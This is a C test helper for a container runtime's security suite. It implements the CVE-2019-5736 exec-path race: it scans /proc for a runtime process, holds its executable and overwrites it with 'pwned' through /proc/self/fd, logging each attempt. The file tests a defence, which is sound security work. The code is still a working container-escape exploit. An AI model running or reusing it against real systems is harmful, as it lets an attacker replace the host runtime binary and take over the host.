/* The exec-path CVE-2019-5736 attacker of security-exe.bats (static, the
 * container's init, with CAP_SYS_PTRACE): poll /proc for a process whose exe is
 * neither this program nor busybox (a husk process between its fork into the
 * container and its exec), keep a handle on that exe, and once nothing runs it
 * any more (no ETXTBSY) open it for writing through /proc/self/fd.  Each outcome
 * is a line of LOG.  Stops when STOP exists, or after 120 s.
 *
 *   exe-race LOG STOP     the attacker
 *   exe-race noop         exit 0 (what the test execs: the same exe as ours) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HANDLES 64

static int handles[MAX_HANDLES];
static int nhandles;

static bool
same_file (const struct stat *a, const struct stat *b)
{
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static void
grab (int log, const struct stat *self, const struct stat *busybox)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;

  if (d == NULL)
    return;
  while ((e = readdir (d)) != NULL && nhandles < MAX_HANDLES)
    {
      char path[300];
      struct stat st;
      int fd;

      if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi (e->d_name) == getpid ())
        continue;
      snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (fstat (fd, &st) < 0 || same_file (&st, self) || same_file (&st, busybox))
        {
          close (fd);
          continue;
        }
      dprintf (log, "handle from pid %s\n", e->d_name);
      handles[nhandles++] = fd;
    }
  closedir (d);
}

/* Try each handle: writable, or refused for another reason than "still running". */
static void
try_write (int log)
{
  for (int i = 0; i < nhandles; i++)
    {
      char path[64];
      int w;

      if (handles[i] < 0)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", handles[i]);
      w = open (path, O_WRONLY | O_CLOEXEC);
      if (w < 0 && errno == ETXTBSY)
        continue;
      if (w < 0)
        dprintf (log, "write failed: %s\n", strerror (errno));
      else
        {
          dprintf (log, "write ok: %s\n", pwrite (w, "pwned", 5, 0) == 5 ? "overwritten" : strerror (errno));
          close (w);
        }
      close (handles[i]);
      handles[i] = -1;
    }
}

int
main (int argc, char **argv)
{
  struct stat self, busybox = { 0 };
  time_t end = time (NULL) + 120;
  int log;

  if (argc == 2 && strcmp (argv[1], "noop") == 0)
    return 0;
  if (argc != 3)
    return 2;
  log = open (argv[1], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (log < 0 || stat ("/proc/self/exe", &self) < 0)
    return 1;
  stat ("/bin/busybox", &busybox);
  dprintf (log, "ready\n");
  while (access (argv[2], F_OK) != 0 && time (NULL) < end)
    {
      grab (log, &self, &busybox);
      try_write (log);
    }
  return 0;
}
